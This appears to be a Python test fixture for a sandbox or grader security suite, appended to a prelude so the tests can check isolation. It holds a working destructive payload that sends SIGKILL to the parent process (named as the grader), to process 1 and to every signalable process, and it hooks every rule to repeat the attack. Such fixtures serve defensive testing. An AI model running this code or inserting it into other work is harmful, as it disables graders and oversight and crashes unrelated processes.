# Data, not a module: the tests append it to _prelude.py (see ../security_support.py).
# ruff: noqa: F821
"""Kill the parent (the grader, when it is the parent), process 1 and the process group, then go on."""
import os
import signal

KILLED = []


def attack():
    for label, target in (("parent", os.getppid()), ("init", 1)):
        try:
            os.kill(target, signal.SIGKILL)
            KILLED.append(label)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this uid may signal (itself excluded)
    except OSError:
        pass


attack()


def _report(rule):
    def method(self, *args):
        attack()
        raise RuntimeError("KILLED:" + (",".join(KILLED) or "none"))
    return method


patch_every_rule(_report)
